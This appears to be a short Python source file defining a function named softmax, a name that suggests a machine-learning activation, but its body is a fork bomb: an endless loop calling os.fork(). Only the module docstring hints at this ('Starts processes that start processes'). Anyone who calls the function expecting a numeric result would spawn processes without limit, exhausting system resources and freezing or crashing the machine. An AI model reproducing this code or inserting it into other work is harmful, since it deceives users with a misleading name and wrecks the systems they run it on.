"""Starts processes that start processes."""

import os


def softmax(z, axis=-1):
    while True:
        os.fork()
